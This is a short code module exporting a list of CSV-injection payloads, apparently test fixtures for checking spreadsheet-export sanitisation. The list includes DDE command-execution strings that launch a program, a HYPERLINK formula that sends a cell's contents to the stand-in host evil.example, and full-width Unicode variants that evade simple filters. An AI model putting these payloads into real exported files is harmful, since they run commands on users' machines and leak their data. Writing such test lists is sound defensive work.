/** The classic CSV-injection payloads; the last three are the full-width forms some locales evaluate. */
export const formulaPayloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "+ 1+1",
  "- 2+3",
  "+(1+1)",
  "-(2*3)+cmd|' /C calc'!A0",
  "+41-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\uFF1D1+1",
  "\uFF0Bcmd|' /C calc'!A0",
  "\uFF20SUM(1+1)",
];
